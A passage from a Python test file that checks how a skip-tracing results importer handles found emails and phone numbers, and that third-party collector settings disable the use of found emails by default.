        tmp_path, a_result(request, email="ann.new@example.com", phone="+1 312 555 0199")
    )
    outcome = import_skip_results(
        connection, path, settings=SETTINGS, today=TODAY, now=NOW, use_emails=False
    )
    assert outcome.outcomes == {"email": {"not_used": 1}, "phone": {"accepted": 1}}
    assert (contacts(connection)["email"], contacts(connection)["email_source"]) == (
        "ann@example.com", "billing",
    )  # fmt: skip

    assert Settings(home=tmp_path, collector_type="third_party").uses_found_emails is False
    assert Settings(home=tmp_path).uses_found_emails is True
    assert Settings(
        home=tmp_path, collector_type="third_party", skip_tracing={"use_found_emails": True}
    ).uses_found_emails
